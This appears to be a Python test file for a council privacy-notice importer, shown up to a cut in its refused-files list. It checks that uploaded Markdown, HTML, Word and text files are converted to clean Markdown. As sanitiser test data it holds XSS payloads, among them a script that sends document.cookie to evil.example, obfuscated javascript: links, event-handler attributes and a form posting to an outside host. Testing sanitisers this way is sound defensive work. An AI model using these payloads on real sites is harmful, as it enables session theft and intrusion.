"""Reading an uploaded notice into Markdown: each format in the shape councils really publish it,
and every kind of file the site must refuse, with a message a DPO can act on.

The notices here are written for these tests, in the project's own words.
"""

import io
import re
import zipfile
from xml.sax.saxutils import escape

import pytest

from notices.importing import html_reader, limits, reading, word_reader
from notices.importing.reading import (
    MAX_IMPORT_BYTES,
    ReadDocument,
    UnreadableDocument,
    read_document,
    repair_mojibake,
)
from notices.text.markdown import render_markdown


def headings(markdown: str) -> list[str]:
    return re.findall(r"^(#{1,6} .+)$", markdown, re.M)


def assert_plain_markdown(markdown: str) -> None:
    """No raw HTML, no script, no script link, no event attribute: only text and Markdown."""
    lowered = markdown.lower()
    assert "<script" not in lowered
    assert "javascript:" not in lowered
    assert not re.search(r"<[a-z!/?]", lowered), f"a raw tag got through: {markdown!r}"
    assert not re.search(r"\bon[a-z]+\s*=", lowered), (
        f"an event attribute got through: {markdown!r}"
    )


def refusal(data: bytes, filename: str) -> str:
    with pytest.raises(UnreadableDocument) as refused:
        read_document(data, filename)
    return str(refused.value)


# Markdown ------------------------------------------------------------------------------------

MARKDOWN_NOTICE = """\
# Larchfield Borough Council: how children's services use your information

Larchfield Borough Council looks after information about children, young people and families
who get help from children's social care.

## What we collect

- names, dates of birth and addresses
- health needs and disabilities
- what happened at each review of a child's care plan

## Why we collect it

1. to decide what help a family needs
2. to keep children safe from harm

## How long we keep it

| Record | How long |
| --- | --- |
| Looked-after child's case file | Until the 75th birthday |
| Child in need plan | 25 years from date of birth |

Read our [general privacy notice](https://larchfield.example/privacy).
"""


def test_a_markdown_notice_passes_through_with_its_title():
    document = read_document(MARKDOWN_NOTICE.encode(), "notice.md")

    assert isinstance(document, ReadDocument)
    assert document.format == "markdown"
    assert document.title == (
        "Larchfield Borough Council: how children's services use your information"
    )
    assert document.markdown == MARKDOWN_NOTICE
    assert document.notes == ()


def test_markdown_line_endings_and_byte_order_mark_are_normalised():
    data = b"\xef\xbb\xbf" + MARKDOWN_NOTICE.replace("\n", "\r\n").encode()
    document = read_document(data, "notice.markdown")

    assert document.markdown == MARKDOWN_NOTICE
    assert "\r" not in document.markdown and "\ufeff" not in document.markdown


def test_raw_html_in_markdown_is_sanitised_and_made_markdown():
    text = (
        "# Our notice\n\n"
        "Some <strong>important</strong> words and a <a href='https://larchfield.example/'>"
        "link</a>.\n\n"
        "<script>document.location='https://evil.example/?'+document.cookie</script>\n\n"
        "<style>body { display: none }</style>\n\n"
        "<table>\n<tr><th>Record</th><th>Kept for</th></tr>\n\n"
        "<tr><td onclick='steal()'>Case file</td><td>75 years</td></tr>\n</table>\n\n"
        "[Click me](javascript:steal()) and ![tracker](https://evil.example/pixel.png)\n\n"
        "<iframe src='https://evil.example'></iframe>\n\n"
        "Ends here.\n"
    )
    document = read_document(text.encode(), "notice.md")

    assert_plain_markdown(document.markdown)
    assert "Some **important** words" in document.markdown
    assert "[link](https://larchfield.example/)" in document.markdown
    assert "| Record | Kept for |\n| --- | --- |\n| Case file | 75 years |" in document.markdown
    assert "Click me and" in document.markdown
    for hostile in ("document.cookie", "display: none", "steal()", "evil.example"):
        assert hostile not in document.markdown
    assert "Removed 1 script" in document.notes
    assert document.markdown.rstrip().endswith("Ends here.")


def test_an_unclosed_html_element_in_markdown_does_not_swallow_the_rest():
    text = "# Notice\n\n<div class='box'>\nA boxed note.\n\n## Your rights\n\n- to ask\n"
    document = read_document(text.encode(), "notice.md")

    assert document.markdown == "# Notice\n\nA boxed note.\n\n## Your rights\n\n- to ask\n"


def test_script_links_written_in_markdown_lose_their_address():
    text = (
        "# Notice\n\n[one](javascript:steal()) [two](<JAVA\tSCRIPT:steal()>) [three][x] "
        "[four](data:text/html,hi) [fine](https://larchfield.example/) [local](#rights)\n\n"
        "[x]: javascript:steal()\n"
    )
    document = read_document(text.encode(), "notice.md")

    assert_plain_markdown(document.markdown)
    assert "steal" not in document.markdown and "data:" not in document.markdown
    assert "one two [three][x] four [fine](https://larchfield.example/)" in document.markdown
    assert "[local](#rights)" in document.markdown
    assert "Removed 4 links that ran a script or held hidden data, keeping the text" in (
        document.notes
    )


def test_a_text_file_written_in_markdown_is_read_as_markdown():
    document = read_document(MARKDOWN_NOTICE.encode(), "notice.txt")

    assert document.format == "markdown"
    assert document.markdown == MARKDOWN_NOTICE
    assert any("Markdown" in note for note in document.notes)


# Saved web pages -----------------------------------------------------------------------------

SAVED_WEB_PAGE = """\
<!DOCTYPE html>
<html lang="en-GB">
<head>
  <meta charset="utf-8">
  <title>Children's social care privacy notice | Larchfield Borough Council</title>
  <link rel="canonical" href="https://www.larchfield.example/privacy/childrens-social-care">
  <link rel="stylesheet" href="/assets/site.css">
  <script>window.dataLayer = []; function track(){ dataLayer.push(arguments); }</script>
  <style>.cookie-banner { position: fixed; }</style>
</head>
<body class="js-enabled">
  <a href="#main" class="skip-link">Skip to main content</a>
  <div id="cookie-banner" class="cookie-banner" role="region" aria-label="Cookies">
    <h2>Cookies on Larchfield Borough Council</h2>
    <p>We use some essential cookies to make this website work.</p>
    <button type="button">Accept additional cookies</button>
    <button type="button">Reject additional cookies</button>
  </div>
  <header class="site-header">
    <a href="/" class="logo"><img src="/logo.png" alt="Larchfield Borough Council"></a>
    <form action="/search" role="search"><label for="q">Search</label><input id="q"></form>
  </header>
  <nav class="main-nav" aria-label="Main">
    <ul>
      <li><a href="/bins">Bins and recycling</a></li>
      <li><a href="/council-tax">Council tax</a></li>
    </ul>
  </nav>
  <div class="breadcrumbs">
    <ol><li><a href="/">Home</a></li><li><a href="/privacy">Privacy</a></li></ol>
  </div>
  <main id="main">
    <h1>Children's social care privacy notice</h1>
    <p class="lead">This notice explains how the council's children's services use
    information about <strong>children, young people and their families</strong>.</p>
    <h2>On this page</h2>
    <ul>
      <li><a href="#collect">What we collect</a></li>
      <li><a href="#share">Who we share it with</a></li>
    </ul>
    <h2 id="collect">What we collect</h2>
    <p>We record:</p>
    <ul>
      <li>names, dates of birth and addresses</li>
      <li>health needs, including
        <ul><li>disabilities</li><li>medicines</li></ul>
      </li>
    </ul>
    <h3>Special category information</h3>
    <p onclick="track('para')">Some of it is <em>special category</em> information.</p>
    <h2 id="share">Who we share it with</h2>
    <ol>
      <li>the Department for Education</li>
      <li>the NHS, for health assessments</li>
    </ol>
    <table>
      <caption>How long we keep records</caption>
      <thead><tr><th scope="col">Record</th><th scope="col">How long</th></tr></thead>
      <tbody>
        <tr><td>Looked-after child's case file</td><td>Until the 75th birthday</td></tr>
        <tr><td>Child in need plan</td><td>25 years | from date of birth</td></tr>
      </tbody>
    </table>
    <p>Read our <a href="/privacy" onclick="track('link')">general privacy notice</a> or
    email <a href="mailto:dpo@larchfield.example">dpo@larchfield.example</a>.</p>
    <div class="page-feedback">
      <h2>Was this page useful?</h2>
      <a href="/feedback?yes">Yes</a> <a href="/feedback?no">No</a>
    </div>
    <form class="feedback-form" action="/feedback">
      <label for="why">Tell us why</label><textarea id="why"></textarea>
      <button type="submit">Send</button>
    </form>
  </main>
  <footer class="site-footer">
    <ul>
      <li><a href="/accessibility">Accessibility</a></li>
      <li><a href="/contact">Contact the council</a></li>
    </ul>
    <p>Copyright Larchfield Borough Council</p>
  </footer>
  <script src="/assets/site.js"></script>
  <iframe src="https://analytics.example/frame"></iframe>
</body>
</html>
"""


@pytest.fixture
def web_page() -> ReadDocument:
    return read_document(SAVED_WEB_PAGE.encode(), "childrens-social-care.html")


def test_a_saved_web_page_keeps_the_notice_in_order(web_page):
    assert web_page.format == "html"
    assert web_page.title == "Children's social care privacy notice"
    assert headings(web_page.markdown) == [
        "# Children's social care privacy notice",
        "## What we collect",
        "### Special category information",
        "## Who we share it with",
    ]
    markdown = web_page.markdown
    expected_in_order = [
        "information about **children, young people and their families**.",
        "We record:",
        "- names, dates of birth and addresses\n- health needs, including\n"
        "    - disabilities\n    - medicines",
        "Some of it is *special category* information.",
        "1. the Department for Education\n2. the NHS, for health assessments",
        "How long we keep records",
        "| Record | How long |\n| --- | --- |\n"
        "| Looked-after child's case file | Until the 75th birthday |\n"
        "| Child in need plan | 25 years \\| from date of birth |",
        "Read our [general privacy notice]"
        "(https://www.larchfield.example/privacy) or email "
        "[dpo@larchfield.example](mailto:dpo@larchfield.example).",
    ]
    positions = [markdown.index(part) for part in expected_in_order]
    assert positions == sorted(positions)


def test_a_saved_web_page_loses_its_chrome_and_scripts(web_page):
    markdown = web_page.markdown
    assert_plain_markdown(markdown)
    for chrome in (
        "Skip to main content",
        "Cookies on Larchfield",
        "essential cookies",
        "Accept additional cookies",
        "Bins and recycling",
        "Council tax",
        "Home",
        "Search",
        "On this page",
        "Was this page useful?",
        "Tell us why",
        "Send",
        "Accessibility",
        "Copyright",
        "dataLayer",
        "track(",
        "position: fixed",
        "analytics.example",
        "logo",
    ):
        assert chrome not in markdown, chrome
    assert (
        "Left out the page's header, navigation, breadcrumbs, cookie banner, "
        "contents list, feedback form and footer" in web_page.notes
    )
    assert "Removed 2 scripts" in web_page.notes
    assert "Removed 1 embedded frame" in web_page.notes
    assert "Left out 1 picture: the import keeps text only" in web_page.notes


def test_the_markdown_from_a_web_page_renders_as_the_same_notice(web_page):
    html = render_markdown(web_page.markdown, top_heading_level=2)
    assert "<table>" in html and "<th>Record</th>" in html
    assert "<ul>" in html and "<ol>" in html
    assert '<a href="https://www.larchfield.example/privacy"' in html


def test_a_page_without_main_is_read_from_its_article_or_densest_part():
    article_page = (
        "<html><body><nav><a href='/'>Home</a></nav><article><h2>Our notice</h2>"
        "<p>What the council does with information.</p></article>"
        "<footer>Site footer</footer></body></html>"
    )
    document = read_document(article_page.encode(), "notice.htm")
    assert document.markdown == "# Our notice\n\nWhat the council does with information.\n"

    div_page = (
        "<html><body><div class='top'><a href='/'>Home</a> | <a href='/a-z'>A to Z</a></div>"
        "<div class='wrapper'><div class='content'>"
        + "<h2>Who we are</h2><p>"
        + "We are the council's children's services. " * 10
        + "</p><h2>What we collect</h2><p>"
        + "We collect what we need to help. " * 10
        + "</p></div><div class='side'><p>Popular: parking</p></div></div></body></html>"
    )
    document = read_document(div_page.encode(), "page.html")
    assert headings(document.markdown) == ["# Who we are", "# What we collect"]
    assert "A to Z" not in document.markdown
    assert "parking" not in document.markdown


def test_a_page_title_outside_main_heads_the_content():
    page = (
        "<html><head><title>Privacy - Larchfield</title></head><body>"
        "<header class='hero'><h1>Children's privacy notice</h1></header>"
        "<main><h2>Who we are</h2><p>The council.</p><h3>Our officer</h3><p>The DPO.</p></main>"
        "</body></html>"
    )
    document = read_document(page.encode(), "notice.html")
    assert document.title == "Children's privacy notice"
    assert headings(document.markdown) == [
        "# Children's privacy notice",
        "## Who we are",
        "### Our officer",
    ]


def test_relative_links_without_a_known_address_become_plain_text():
    page = "<main><h1>Notice</h1><p>See <a href='/privacy'>our main notice</a>.</p></main>"
    document = read_document(page.encode(), "notice.html")
    assert "See our main notice." in document.markdown
    assert any("plain text" in note for note in document.notes)


HOSTILE_HTML = [
    "<p>Safe words.</p><script>alert('stolen')</script>",
    "<p>Safe words.<img src=x onerror=\"alert('stolen')\"></p>",
    "<p><a href=\"javascript:alert('stolen')\">Safe words.</a></p>",
    "<p><a href=\"JaVaScRiPt:alert('stolen')\">Safe words.</a></p>",
    "<p><a href=\"java&#x09;script:alert('stolen')\">Safe words.</a></p>",
    '<p><a href="data:text/html;base64,PHNjcmlwdD4=">Safe words.</a></p>',
    '<p>Safe words.</p><iframe src="https://evil.example" onload="alert(\'stolen\')"></iframe>',
    "<p onmouseover=\"alert('stolen')\">Safe words.</p>",
    "<p>Safe words.</p><svg><script>alert('stolen')</script></svg>",
    '<p>Safe words.</p><object data="x"></object><embed src="x">',
    "<p>Safe words.</p><style>p { background: url(javascript:alert('stolen')) }</style>",
    "<p>Safe words.</p><noscript><img src=x onerror=\"alert('stolen')\"></noscript>",
    "<p>Safe words.</p><<script>script>alert('stolen')<</script>/script>",
    "<p>Safe words. &lt;script&gt;alert('stolen')&lt;/script&gt;</p>",
    '<p>Safe words.</p><form action="https://evil.example"><input value="stolen"></form>',
    "<details open ontoggle=\"alert('stolen')\"><summary>Safe words.</summary></details>",
]


@pytest.mark.parametrize("hostile", HOSTILE_HTML)
def test_nothing_hostile_in_a_web_page_survives(hostile):
    page = f"<!DOCTYPE html><html><body><main>{hostile}</main></body></html>"
    document = read_document(page.encode(), "notice.html")

    assert_plain_markdown(document.markdown)
    assert "Safe words." in document.markdown
    assert "evil.example" not in document.markdown
    # The one hostile line that is visible text stays text, shown as it was written.
    if "&lt;script" not in hostile:
        assert "stolen" not in document.markdown
    rendered = render_markdown(document.markdown)
    assert "<script" not in rendered and "javascript:" not in rendered.lower()


@pytest.mark.parametrize("hostile", HOSTILE_HTML)
def test_nothing_hostile_in_raw_html_inside_markdown_survives(hostile):
    document = read_document(f"# Notice\n\n{hostile}\n\nMore words.\n".encode(), "notice.md")

    assert_plain_markdown(document.markdown)
    assert "evil.example" not in document.markdown
    if "&lt;script" not in hostile:
        assert "stolen" not in document.markdown


def test_a_notice_section_about_consent_is_not_taken_for_a_cookie_banner():
    page = (
        "<html><body class='cookies-accepted consent-given'>"
        "<div class='cookie-consent'><p>We use cookies.</p></div>"
        "<main><h1>Notice</h1><section id='consent' class='consent'><h2>Consent</h2>"
        "<p>You can withdraw your consent at any time.</p></section></main></body></html>"
    )
    document = read_document(page.encode(), "notice.html")

    assert document.markdown == (
        "# Notice\n\n## Consent\n\nYou can withdraw your consent at any time.\n"
    )
    assert "Left out the page's cookie banner" in document.notes


def test_a_page_without_a_heading_in_its_content_takes_its_title_from_the_title_tag():
    page = (
        "<html><head><title>Fostering privacy notice | Larchfield Council</title></head>"
        "<body><main><p>How the fostering team uses information.</p></main></body></html>"
    )
    document = read_document(page.encode(), "notice.html")
    assert document.title == "Fostering privacy notice"
    assert document.markdown == "How the fostering team uses information.\n"


def test_html_nested_absurdly_deep_is_refused_not_crashed():
    nested = "<ul><li>item" * 3000 + "</li></ul>" * 3000
    for data, filename in ((f"<main>{nested}</main>", "notice.html"), (nested, "notice.md")):
        assert "nested too deeply" in refusal(data.encode(), filename)


def test_deeply_nested_page_layout_is_read():
    # Speed figures live in make bench-hostile (cases_import), never in a timed test.
    page = "<div>" * 120 + "<p>Deep words.</p>" + "</div>" * 120
    document = read_document(page.encode(), "notice.html")
    assert document.markdown == "Deep words.\n"


def test_a_page_nested_thousands_deep_is_refused_before_it_is_parsed(monkeypatch):
    def must_not_run(*args, **kwargs):
        raise AssertionError("a page nested 50,000 deep reached the HTML parser")

    monkeypatch.setattr(html_reader, "BeautifulSoup", must_not_run)
    page = "<div>" * 50_000 + "<p>Deep words.</p>" + "</div>" * 50_000
    assert "nested too deeply: more than 150 levels" in refusal(page.encode(), "notice.html")


def test_a_text_file_that_is_really_a_web_page_is_read_as_html():
    document = read_document(SAVED_WEB_PAGE.encode(), "notice.txt")
    assert document.format == "html"
    assert "## What we collect" in document.markdown


def test_a_web_page_saved_in_windows_1252_is_read():
    page = "<html><body><main><h1>Fees</h1><p>It costs \u00a30 \u2013 it\u2019s free.</p></main>"
    document = read_document(page.encode("cp1252"), "notice.htm")
    assert "It costs \u00a30 \u2013 it\u2019s free." in document.markdown
    assert any("Windows-1252" in note for note in document.notes)


# Word documents ------------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.styles+xml"/>'
    '<Override PartName="/word/numbering.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.numbering+xml"/>'
    "</Types>"
)

PACKAGE_RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)

DOCUMENT_RELATIONSHIPS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/styles" Target="styles.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/numbering" Target="numbering.xml"/>'
    "</Relationships>"
)

STYLES = (
    f'<?xml version="1.0" encoding="UTF-8"?><w:styles xmlns:w="{W}">'
    '<w:style w:type="paragraph" w:styleId="Title"><w:name w:val="Title"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Heading1"><w:name w:val="heading 1"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="Heading2"><w:name w:val="heading 2"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="ListParagraph">'
    '<w:name w:val="List Paragraph"/></w:style>'
    "</w:styles>"
)

# One bulleted list definition (numId 1) and one numbered (numId 2).
NUMBERING = (
    f'<?xml version="1.0" encoding="UTF-8"?><w:numbering xmlns:w="{W}">'
    '<w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:numFmt w:val="bullet"/>'
    "</w:lvl></w:abstractNum>"
    '<w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:numFmt w:val="decimal"/>'
    "</w:lvl></w:abstractNum>"
    '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>'
    '<w:num w:numId="2"><w:abstractNumId w:val="1"/></w:num>'
    "</w:numbering>"
)


def word_paragraph(text: str, style: str = "", *, list_id: int = 0, bold: str = "") -> str:
    properties = ""
    if style or list_id:
        properties = "<w:pPr>"
        if style:
            properties += f'<w:pStyle w:val="{style}"/>'
        if list_id:
            properties += f'<w:numPr><w:ilvl w:val="0"/><w:numId w:val="{list_id}"/></w:numPr>'
        properties += "</w:pPr>"
    runs = f'<w:r><w:t xml:space="preserve">{escape(text)}</w:t></w:r>'
    if bold:
        runs += f'<w:r><w:rPr><w:b/></w:rPr><w:t xml:space="preserve">{escape(bold)}</w:t></w:r>'
    return f"<w:p>{properties}{runs}</w:p>"


def make_docx(paragraphs: list[str]) -> bytes:
    """A minimal Word document, written part by part as Word lays it out."""
    body = "".join(paragraphs)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as docx:
        docx.writestr("[Content_Types].xml", CONTENT_TYPES)
        docx.writestr("_rels/.rels", PACKAGE_RELATIONSHIPS)
        docx.writestr("word/_rels/document.xml.rels", DOCUMENT_RELATIONSHIPS)
        docx.writestr("word/styles.xml", STYLES)
        docx.writestr("word/numbering.xml", NUMBERING)
        docx.writestr(
            "word/document.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}">'
            f"<w:body>{body}</w:body></w:document>",
        )
    return buffer.getvalue()


WORD_NOTICE = [
    word_paragraph("Larchfield children's services privacy notice", "Title"),
    word_paragraph("How we use information about the children and families we help."),
    word_paragraph("What we collect", "Heading1"),
    word_paragraph("We collect ", bold="only what we need:"),
    word_paragraph("names and addresses", "ListParagraph", list_id=1),
    word_paragraph("health needs", "ListParagraph", list_id=1),
    word_paragraph("Special category information", "Heading2"),
    word_paragraph("Some of it is about health or ethnicity."),
    word_paragraph("Who we share it with", "Heading1"),
    word_paragraph("the Department for Education", "ListParagraph", list_id=2),
    word_paragraph("the NHS", "ListParagraph", list_id=2),
    word_paragraph("<script>alert(1)</script> is only text in Word."),
]


def test_a_word_document_keeps_its_headings_lists_and_text():
    document = read_document(make_docx(WORD_NOTICE), "Privacy notice.docx")

    assert document.format == "docx"
    assert document.title == "Larchfield children's services privacy notice"
    assert headings(document.markdown) == [
        "# Larchfield children's services privacy notice",
        "# What we collect",
        "## Special category information",
        "# Who we share it with",
    ]
    assert "How we use information about the children and families we help." in (document.markdown)
    assert "We collect **only what we need:**" in document.markdown
    assert "- names and addresses\n- health needs" in document.markdown
    assert "1. the Department for Education\n2. the NHS" in document.markdown
    assert_plain_markdown(document.markdown)
    assert "&lt;script>alert(1)&lt;/script> is only text in Word." in document.markdown


def test_a_word_document_without_heading_styles_gets_its_typed_headings_read():
    document = read_document(
        make_docx(
            [
                word_paragraph("Larchfield children's services privacy notice"),
                word_paragraph("How we use information about the children and families we help."),
                word_paragraph("1. What we collect"),
                word_paragraph("We collect names and health needs."),
                word_paragraph("", bold="Who we share it with"),
                word_paragraph("the Department for Education", "ListParagraph", list_id=2),
                word_paragraph("How long do we keep it?"),
                word_paragraph("Until the child's 25th birthday."),
                word_paragraph("Thank you for reading"),
            ]
        ),
        "notice.docx",
    )
    assert headings(document.markdown) == [
        "# Larchfield children's services privacy notice",
        "## 1. What we collect",
        "## Who we share it with",
        "## How long do we keep it?",
    ]
    assert "Read 4 short lines as headings" in " ".join(document.notes)
    assert "Thank you for reading" in document.markdown


def test_a_word_document_with_heading_styles_keeps_its_short_bold_lines_as_text():
    document = read_document(
        make_docx(
            [
                word_paragraph("What we collect", "Heading1"),
                word_paragraph("", bold="Names and health needs"),
                word_paragraph("More text."),
            ]
        ),
        "notice.docx",
    )
    assert headings(document.markdown) == ["# What we collect"]


def test_a_word_document_is_recognised_whatever_it_is_called():
    document = read_document(make_docx(WORD_NOTICE), "notice.bin")
    assert document.format == "docx"


# Plain text ----------------------------------------------------------------------------------

NUMBERED_TEXT_NOTICE = """\
Larchfield Borough Council
Children's social care privacy notice

1. Who we are

Larchfield Borough Council is the controller of the information in this notice. Our Data
Protection Officer checks that we follow the law.

2. What information we collect

We collect:

  \u2022 names, addresses and dates of birth
  \u2022 health needs, including disabilities and
    medicines
  \u2022 the dates a child started and stopped being looked after

3) Why we collect it

We use it to plan care and to keep children safe.

Section 4: Who we share it with

- the Department for Education
- the NHS
* the police, when a child may be at risk
\u2013 schools

4.1 Sharing in an emergency

If a child is in danger, we share what is needed straight away.
"""


def test_a_numbered_plain_text_notice_gets_headings_lists_and_paragraphs():
    document = read_document(NUMBERED_TEXT_NOTICE.encode(), "notice.txt")

    assert document.format == "text"
    assert headings(document.markdown) == [
        "# Larchfield Borough Council: Children's social care privacy notice",
        "## Who we are",
        "## What information we collect",
        "## Why we collect it",
        "## Who we share it with",
        "### Sharing in an emergency",
    ]
    assert document.title == "Larchfield Borough Council: Children's social care privacy notice"
    markdown = document.markdown
    assert markdown.startswith(
        "# Larchfield Borough Council: Children's social care privacy notice\n\n## Who we are"
    )
    # A paragraph wrapped over two lines becomes one line.
    assert (
        "Larchfield Borough Council is the controller of the information in this notice. "
        "Our Data Protection Officer checks that we follow the law.\n" in markdown
    )
    assert (
        "We collect:\n\n- names, addresses and dates of birth\n"
        "- health needs, including disabilities and medicines\n"
        "- the dates a child started and stopped being looked after" in markdown
    )
    assert (
        "- the Department for Education\n- the NHS\n"
        "- the police, when a child may be at risk\n- schools" in markdown
    )


UNNUMBERED_TEXT_NOTICE = """\
Children's social care privacy notice

This notice tells you how Larchfield Borough Council uses information about children and
families who get help from its children's services.

Who we are
Larchfield Borough Council decides how this information is used.

WHAT WE COLLECT

We keep records of the help a family gets, and notes from visits and meetings.

Who we share it with:
o the Department for Education
o the NHS

We share the following:
\u00b7 dates of reviews
\u00b7 outcomes for children in care

Your rights

You can ask for a copy of what we hold about you. You can ask us to correct it.

Contact us

Telephone: 01632 960000
Email: dpo@larchfield.example
"""


def test_short_lines_capitals_and_colons_become_headings_in_plain_text():
    document = read_document(UNNUMBERED_TEXT_NOTICE.encode(), "notice.txt")

    assert headings(document.markdown) == [
        "# Children's social care privacy notice",  # a first heading naming the notice
        "## Who we are",
        "## WHAT WE COLLECT",
        "## Who we share it with",
        "## Your rights",
        "## Contact us",
    ]
    assert document.title == "Children's social care privacy notice"
    markdown = document.markdown
    assert "## Who we are\n\nLarchfield Borough Council decides" in markdown
    assert "## Who we share it with\n\n- the Department for Education\n- the NHS" in markdown
    # A sentence leading into a list is not a heading, and labels and values are not either.
    assert "We share the following:\n\n- dates of reviews\n- outcomes for children" in markdown
    # Short lines that were never wrapped (contact details) keep their lines.
    assert markdown.endswith("Telephone: 01632 960000\nEmail: dpo@larchfield.example\n")


def test_a_web_page_feedback_form_copied_at_the_end_of_a_text_is_left_out():
    text = NUMBERED_TEXT_NOTICE + "\nWas this page helpful?\n\nYes\nNo\n\nTell us more (optional)\n"
    document = read_document(text.encode(), "notice.txt")

    assert document.markdown.endswith("we share what is needed straight away.\n")
    assert "Left out the web page's feedback form at the end of the text" in document.notes


def test_a_file_without_an_extension_is_read_by_its_content():
    assert read_document(NUMBERED_TEXT_NOTICE.encode(), "notice").format == "text"
    assert read_document(SAVED_WEB_PAGE.encode(), "download").format == "html"
    assert read_document(MARKDOWN_NOTICE.encode(), "README").format == "markdown"
    plain_html_name = read_document(b"Who we are\n\nThe council.\n", "notice.html")
    assert plain_html_name.format == "text"


def test_a_document_with_no_headings_is_still_read():
    text = (
        "Larchfield Borough Council uses information about children to keep them safe, and\n"
        "shares it only when the law allows.\n\n"
        "You can ask for a copy of what the council holds about you.\n"
    )
    document = read_document(text.encode(), "notice.txt")

    assert "#" not in document.markdown
    assert document.title == ""
    assert document.markdown == (
        "Larchfield Borough Council uses information about children to keep them safe, and "
        "shares it only when the law allows.\n\n"
        "You can ask for a copy of what the council holds about you.\n"
    )


def test_plain_text_that_looks_like_markup_stays_text():
    text = "Fees\n\nChildren aged <18 pay nothing. <b>Bold</b> [sic] *starred*\n"
    document = read_document(text.encode(), "notice.txt")
    assert_plain_markdown(document.markdown)
    assert "aged <18" in document.markdown
    rendered = render_markdown(document.markdown)
    assert "&lt;b&gt;Bold&lt;/b&gt; [sic] *starred*" in rendered


# Text encodings ------------------------------------------------------------------------------


def test_a_windows_1252_file_is_decoded_and_noted():
    text = "Fees\n\nA copy of your records costs \u00a30 \u2013 it\u2019s free.\n"
    document = read_document(text.encode("cp1252"), "notice.txt")

    assert "A copy of your records costs \u00a30 \u2013 it\u2019s free." in document.markdown
    assert "Read as Windows-1252 text (the file is not UTF-8)" in document.notes


def test_utf_16_with_a_byte_order_mark_is_read():
    for encoding in ("utf-16-le", "utf-16-be"):
        bom = "\ufeff".encode(encoding)
        document = read_document(bom + MARKDOWN_NOTICE.encode(encoding), "notice.md")
        assert document.markdown == MARKDOWN_NOTICE


def test_mojibake_is_repaired_and_noted():
    # UTF-8 that some program once read as Windows-1252 and saved again as UTF-8.
    original = "Fees\n\nIt costs \u00a30 \u2013 it\u2019s free, caf\u00e9 included.\n"
    garbled = original.encode("utf-8").decode("cp1252").encode("utf-8")
    assert b"\xc3\xa2\xe2\x82\xac\xe2\x84\xa2" in garbled  # "’" as it was mis-decoded: "â€™"

    document = read_document(garbled, "notice.txt")

    assert "It costs \u00a30 \u2013 it\u2019s free, caf\u00e9 included." in document.markdown
    note = next(note for note in document.notes if note.startswith("Repaired"))
    assert "\u00c2\u00a3" in note and "\u00e2\u20ac\u2122" in note  # "Â£" and "â€™"


def test_mojibake_repair_leaves_real_accented_text_alone():
    text = "Caf\u00e9 \u00c0 la carte, na\u00efve, \u00a310, \u00c9cole \u00bd"
    assert repair_mojibake(text) == (text, [])


def test_mojibake_twice_over_is_repaired():
    garbled = "it\u2019s".encode().decode("cp1252").encode().decode("cp1252")
    assert repair_mojibake(garbled)[0] == "it\u2019s"


def test_bytes_invalid_in_every_encoding_are_refused():
    # Not UTF-8 (a lone continuation byte) and undefined in Windows-1252 (0x81, 0x8D).
    message = refusal(b"Our notice \x81\x8d about children", "notice.txt")
    assert "not in a text encoding the site can read" in message
    assert "UTF-8" in message


def test_text_with_replacement_characters_is_refused():
    message = refusal("It costs \ufffd10.".encode(), "notice.txt")
    assert "not in a text encoding the site can read" in message


# Files the site refuses ----------------------------------------------------------------------


def tiny_zip(**files: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(name.replace("__", "/"), content)
    return buffer.getvalue()


REFUSED_FILES = [
    pytest.param(b"", "notice.md", "The file is empty", id="empty"),
    pytest.param(b"  \r\n\t\n  ", "notice.txt", "The file is empty", id="whitespace-only"),
    pytest.param(b"\xef\xbb\xbf\n\n", "notice.txt", "The file is empty", id="bom-only"),
    pytest.param(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(64),
        "notice.png",
        "This is an image (PNG), not a document",
        id="png",
    ),
    pytest.param(
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(64),
        "notice.txt",
        "This is an image (JPEG), not a document",
        id="jpeg-named-txt",
    ),
    pytest.param(b"GIF89a\x01\x00" + bytes(32), "a.gif", "image (GIF)", id="gif"),
    pytest.param(b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(32), "a.webp", "image (WebP)", id="webp"),
    pytest.param(
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        "notice.pdf",
        "This looks like a PDF. The site cannot read PDFs: save it as text or Word first",
        id="pdf",
    ),
    pytest.param(
        b"%PDF-1.4\n" + bytes(16), "notice.docx", "This looks like a PDF", id="pdf-as-docx"
    ),
    pytest.param(
        tiny_zip(notice__readme="a text file in a zip"),
        "notice.zip",
        "This is a ZIP archive, not a Word document",
        id="zip",
    ),
    pytest.param(
